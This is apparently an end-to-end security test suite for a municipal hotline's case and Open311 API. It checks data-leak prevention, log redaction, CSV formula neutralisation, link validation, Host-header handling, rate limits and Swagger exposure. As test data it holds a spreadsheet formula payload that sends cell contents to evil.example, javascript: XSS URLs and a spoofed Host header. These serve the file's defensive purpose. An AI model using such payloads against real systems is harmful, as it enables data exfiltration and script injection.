import { resetEnvCache } from '@hotline/config';
import type { NestFastifyApplication } from '@nestjs/platform-fastify';
import { randomUUID } from 'node:crypto';
import { DataSource } from 'typeorm';
import { createTestApp, http, tokenFor } from '../support/test-app';
import { issueKey } from './open311-support';

/**
 * Data that must not leak (security hardening, ASVS level 2): what Open311 publishes, what
 * an assisting bureau and the citizen read, what the logs keep, what a CSV cell can do,
 * which links are taken, where discovery points, what a 404 tells, when Swagger is served.
 */

/** Sets variables for one app and puts the previous values back afterwards (process.env is shared by the run). */
function envScope(vars: Record<string, string>) {
  const saved = Object.fromEntries(Object.keys(vars).map((k) => [k, process.env[k]]));
  return {
    vars,
    restore() {
      for (const [k, v] of Object.entries(saved)) {
        if (v === undefined) delete process.env[k];
        else process.env[k] = v;
      }
      resetEnvCache();
    },
  };
}

const PUBLIC_API_URL = 'https://hotline.example.gov.cn/gateway';

describe('Security: data that must not leak', () => {
  let app: NestFastifyApplication;
  let ds: DataSource;
  let apiKey: string;
  const logLines: string[] = [];
  const scope = envScope({
    LOG_LEVEL: 'info',
    PUBLIC_API_URL,
    // Its own Redis prefix, so the counters of other files cannot interfere.
    REDIS_PREFIX: `${process.env['REDIS_PREFIX'] ?? 'hltest:local'}:leaks-${randomUUID().slice(0, 8)}`,
  });

  const categoryId = async (code: string) =>
    Number((await ds.query(`SELECT id FROM categories WHERE code = $1`, [code]))[0].id);
  const auth = async (user: string) => ({ Authorization: `Bearer ${await tokenFor(app, user)}` });
  const caseIdOf = async (trackingNumber: string) =>
    String((await ds.query(`SELECT id FROM cases WHERE tracking_number = $1`, [trackingNumber]))[0].id);

  /** A citizen's broken-lift report: the catalogue sends it to ZJJ with SCJ assisting. */
  async function citizenCase() {
    const res = await http(app)
      .post('/api/public/cases')
      .send({
        type: 'complaint',
        categoryId: await categoryId('ZF.WY.DTGZ'),
        description: `电梯坏了一周 ${randomUUID().slice(0, 8)}`,
        address: '双塔街道人民路 12 号 3 单元',
        caller: { name: '赵六', phone: '13611112222' },
      })
      .expect(201);
    const body = res.body as { trackingNumber: string; accessCode: string };
    return { id: await caseIdOf(body.trackingNumber), ...body };
  }

  beforeAll(async () => {
    Object.assign(process.env, scope.vars);
    app = await createTestApp({}, { logStream: { write: (line: string) => void logLines.push(line) } });
    ds = app.get(DataSource);
    apiKey = (await issueKey(app, 'Leaks e2e partner')).key;
  });
  afterAll(async () => {
    await app.close();
    scope.restore();
  });

  describe('Open311 GET /requests publishes only what was filed publicly', () => {
    it('anonymous: web and open311 cases at street level, no phone intake, no house number, no contact', async () => {
      const web = await citizenCase();
      const open311 = await http(app)
        .post('/open311/v2/requests.json')
        .type('form')
        .send({
          api_key: apiKey,
          service_code: 'CM.SR.ZDJY',
          lat: '31.29691',
          long: '120.62843',
          'attribute[business_type]': 'mobile',
          description: '路口流动摊贩',
          first_name: '小明',
          phone: '13912345678',
        })
        .expect(201);
      const open311Id = open311.body[0].service_request_id as string;
      const phone = await http(app)
        .post('/api/cases')
        .set(await auth('agent01'))
        .send({
          type: 'complaint',
          categoryId: await categoryId('ZF.WY.DTGZ'),
          description: '来电：楼上住户王五每晚噪音，电话 13700001111',
          address: '双塔街道人民路 88 号 502 室',
          caller: { name: '李四', phone: '13522223333' },
        })
        .expect(201);
      const phoneId = phone.body.case.trackingNumber as string;
      const ids = [web.trackingNumber, open311Id, phoneId].join(',');

      const anonymous = await http(app).get(`/open311/v2/requests.json?service_request_id=${ids}`).expect(200);
      const shown = anonymous.body as { service_request_id: string; address: string; lat: number; long: number }[];
      expect(shown.map((r) => r.service_request_id).sort()).toEqual([web.trackingNumber, open311Id].sort());
      expect(anonymous.text).not.toMatch(/12 号|88 号|王五|13700001111|赵六|13611112222|小明|13912345678/);
      const point = shown.find((r) => r.service_request_id === open311Id)!;
      expect(point).toMatchObject({ lat: 31.297, long: 120.628, address: '清源区双塔街道' });
      // One request by id answers the same way: the phone case does not exist for the public.
      await http(app).get(`/open311/v2/requests/${phoneId}.json`).expect(404);

      // A partner with a key (issued and audited by the hotline) reads every channel exactly,
      // still without anyone's name, phone or e-mail.
      const keyed = await http(app)
        .get(`/open311/v2/requests.json?service_request_id=${ids}&api_key=${apiKey}`)
        .expect(200);
      expect(keyed.body.map((r: { service_request_id: string }) => r.service_request_id).sort()).toEqual(
        [web.trackingNumber, open311Id, phoneId].sort(),
      );
      expect(keyed.body.find((r: { service_request_id: string }) => r.service_request_id === open311Id)).toMatchObject({
        lat: 31.29691,
        long: 120.62843,
      });
      expect(keyed.text).toContain('88 号 502 室');
      expect(keyed.text).not.toMatch(/李四|13522223333|赵六|13611112222|小明|13912345678/);
    });
  });

  it('an assisting bureau never reads the lead bureau’s internal note; the lead and the hotline do', async () => {
    const c = await citizenCase();
    const lead = await auth('h.zjj');
    await http(app).post(`/api/cases/${c.id}/accept`).set(lead).send({ version: 1 }).expect(200);
    const note = `物业经理私人电话 0512-${randomUUID().slice(0, 6)}`;
    await http(app)
      .post(`/api/cases/${c.id}/reply`)
      .set(lead)
      .send({ version: 2, publicReply: '已督促物业修复电梯', internalNote: note })
      .expect(200);

    const assisting = await auth('h.scj');
    const detail = await http(app).get(`/api/cases/${c.id}`).set(assisting).expect(200);
    expect(detail.body.assistingBureauIds.length).toBeGreaterThan(0);
    expect(detail.body.internalNote).toBeNull();
    const timeline = await http(app).get(`/api/cases/${c.id}/events`).set(assisting).expect(200);
    expect(JSON.stringify(detail.body) + JSON.stringify(timeline.body)).not.toContain(note);

    expect((await http(app).get(`/api/cases/${c.id}`).set(lead).expect(200)).body.internalNote).toBe(note);
    expect(
      (
        await http(app)
          .get(`/api/cases/${c.id}`)
          .set(await auth('agent01'))
      ).body.internalNote,
    ).toBe(note);
  });

  it('the citizen’s tracking answer carries no dispatch reason or other staff text', async () => {
    const c = await citizenCase();
    // Staff see why the catalogue chose the bureau …
    const staff = await http(app)
      .get(`/api/cases/${c.id}/events`)
      .set(await auth('agent01'))
      .expect(200);
    const reason = staff.body.find((e: { action: string }) => e.action === 'auto_dispatch').note as string;
    expect(reason).toMatch(/^rule #\d+: category level/);
    await http(app)
      .post(`/api/cases/${c.id}/accept`)
      .set(await auth('h.zjj'))
      .send({ version: 1, note: '内部：先联系物业经理' })
      .expect(200);

    // … the citizen sees the steps, not the reasons or the bureau's remarks.
    const view = await http(app).get(`/api/public/cases/${c.trackingNumber}`).set('X-Access-Code', c.accessCode);
    expect(view.status).toBe(200);
    expect(view.body.timeline.map((e: { action: string }) => e.action)).toEqual(['intake', 'auto_dispatch', 'accept']);
    expect(view.body.timeline.every((e: { note: string | null }) => e.note === null)).toBe(true);
    expect(JSON.stringify(view.body)).not.toMatch(/rule #|category level|先联系物业经理/);
  });

  it('keeps access codes, api keys and bearer tokens out of the logs', async () => {
    const c = await citizenCase();
    const token = await tokenFor(app, 'agent01');
    logLines.length = 0;
    await http(app).get(`/api/public/cases/${c.trackingNumber}?code=${c.accessCode}`).expect(200);
    await http(app).get(`/open311/v2/requests.json?page_size=1&api_key=${apiKey}`).expect(200);
    await http(app).get(`/api/cases/${c.id}`).set('Authorization', `Bearer ${token}`).expect(200);
    const logged = logLines.join('');
    // The requests were logged (so the check below means something) …
    expect(logged).toContain(`/api/public/cases/${c.trackingNumber}?code=[REDACTED]`);
    expect(logged).toContain('/open311/v2/requests.json?page_size=1&api_key=[REDACTED]');
    // … and the secrets were not.
    expect(logged).not.toContain(c.accessCode);
    expect(logged).not.toContain(apiKey);
    expect(logged).not.toContain(token);
  });

  it('neutralises CSV cells that a spreadsheet would run as a formula', async () => {
    const evil = `=HYPERLINK("http://evil.example/?"&A1,"点我")`;
    const created = await http(app)
      .post('/api/admin/bureaus')
      .set(await auth('admin'))
      .send({
        code: `EVIL${randomUUID().slice(0, 4).toUpperCase()}`,
        nameZh: evil,
        nameEn: '@SUM(1+1)',
        kind: 'municipal',
      })
      .expect(201);
    const month = new Date().toISOString().slice(0, 7);
    const csv = await http(app)
      .get(`/api/analytics/rankings?month=${month}&format=csv`)
      .set(await auth('sup01'))
      .expect(200);
    const row = csv.text.split('\r\n').find((l) => l.includes(created.body.code as string))!;
    expect(row).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""点我"")"`);
    expect(row).toContain(`'@SUM(1+1)`);
    expect(row.split(',').some((cell) => /^[=+\-@]/.test(cell))).toBe(false);
  });

  it('refuses javascript: and other non-http links with 400, and stores nothing', async () => {
    const before = Number((await ds.query(`SELECT count(*) AS n FROM cases`))[0].n);
    const base = { type: 'complaint', categoryId: await categoryId('ZF.WY.DTGZ'), description: '电梯坏了' };
    for (const mediaUrl of ['javascript:alert(document.cookie)', 'JAVASCRIPT://x%0aalert(1)', 'data:text/html,x']) {
      const citizen = await http(app)
        .post('/api/public/cases')
        .send({ ...base, mediaUrl });
      expect(citizen.status).toBe(400);
      expect(JSON.stringify(citizen.body)).toMatch(/mediaUrl must be an http\(s\) URL/);
      await http(app)
        .post('/api/cases')
        .set(await auth('agent01'))
        .send({ ...base, mediaUrl })
        .expect(400);
      const open311 = await http(app)
        .post('/open311/v2/requests.json')
        .type('form')
        .send({ api_key: apiKey, service_code: 'CM.SR.LDLF', address_id: 'HX.LX', media_url: mediaUrl });
      expect(open311.status).toBe(400);
      expect(open311.body[0].description).toMatch(/media_url must be an http\(s\) URL/);
    }
    expect(Number((await ds.query(`SELECT count(*) AS n FROM cases`))[0].n)).toBe(before);
  });

  it('names the configured public URL in Open311 discovery, whatever Host the client sends', async () => {
    for (const host of ['evil.example', 'localhost:3000', 'hotline.example.gov.cn']) {
      const res = await http(app).get('/open311/v2/discovery.json').set('Host', host).expect(200);
      expect(res.body.endpoints.map((e: { url: string }) => e.url)).toEqual([`${PUBLIC_API_URL}/open311/v2`]);
      expect(res.text).not.toContain('evil.example');
    }
  });

  it('answers "another bureau’s notice" exactly like "no such notice"', async () => {
    const c = await citizenCase();
    const dueAt = new Date(Date.now() + 86_400_000).toISOString();
    const issued = await http(app)
      .post(`/api/cases/${c.id}/supervision-notices`)
      .set(await auth('sup01'))
      .send({ demand: '三日内修复电梯并回复', dueAt })
      .expect(201);
    const answer = async (user: string, noticeId: string) => {
      const res = await http(app)
        .post(`/api/supervision-notices/${noticeId}/answer`)
        .set(await auth(user))
        .send({ answer: '已处理' });
      const { requestId: _ignored, ...body } = res.body as Record<string, unknown>;
      return { status: res.status, body };
    };
    const missing = await answer('h.zjj', '99999999999');
    expect(missing.status).toBe(404);
    expect(await answer('h.water', String(issued.body.id))).toEqual(missing); // another bureau
    expect(await answer('h.scj', String(issued.body.id))).toEqual(missing); // assisting, not lead
    expect((await answer('h.zjj', String(issued.body.id))).status).toBe(200);
  });
});

describe('Security: Open311 rate limits count per key', () => {
  let app: NestFastifyApplication;
  const scope = envScope({
    RATE_LIMIT_PUBLIC_PER_MINUTE: '3',
    REDIS_PREFIX: `${process.env['REDIS_PREFIX'] ?? 'hltest:local'}:leaks-rl-${randomUUID().slice(0, 8)}`,
  });
  beforeAll(async () => {
    Object.assign(process.env, scope.vars);
    app = await createTestApp();
  });
  afterAll(async () => {
    await app.close();
    scope.restore();
  });

  it('keyed clients behind one address each get their own budget; anonymous and wrong-key traffic the address’s', async () => {
    const a = await issueKey(app, 'Partner A', 5);
    const b = await issueKey(app, 'Partner B', 5);
    const get = (query = '') => http(app).get(`/open311/v2/services.json${query}`);

    // Five each, from the same address as everyone else, over the address budget of three.
    for (const key of [a.key, b.key]) {
      for (let i = 0; i < 5; i++) await get(`?api_key=${key}`).expect(200);
      const over = await get(`?api_key=${key}`).expect(429);
      expect(Number(over.headers['retry-after'])).toBeGreaterThan(0);
    }
    const anonymous: number[] = [];
    for (let i = 0; i < 4; i++) anonymous.push((await get()).status);
    expect(anonymous).toEqual([200, 200, 200, 429]);
    // Guessing keys does not escape the address budget either.
    const wrong: number[] = [];
    for (let i = 0; i < 4; i++) wrong.push((await get(`?api_key=hk_guess${i}`)).status);
    expect(wrong).toEqual([403, 403, 403, 429]);
  });
});

describe('Security: Swagger in production', () => {
  const JWT = 'production-test-secret-0123456789-abcdefghijklmnop';
  it('is off unless SWAGGER_ENABLED says otherwise', async () => {
    for (const [vars, expected] of [
      [{ NODE_ENV: 'production', JWT_SECRET: JWT }, 404],
      [{ NODE_ENV: 'production', JWT_SECRET: JWT, SWAGGER_ENABLED: 'true' }, 200],
    ] as const) {
      const scope = envScope({ SWAGGER_ENABLED: '', ...vars });
      Object.assign(process.env, scope.vars);
      const app = await createTestApp();
      try {
        await http(app).get('/api/docs-json').expect(expected);
        await http(app).get('/api/health').expect(200);
      } finally {
        await app.close();
        scope.restore();
      }
    }
  });
});
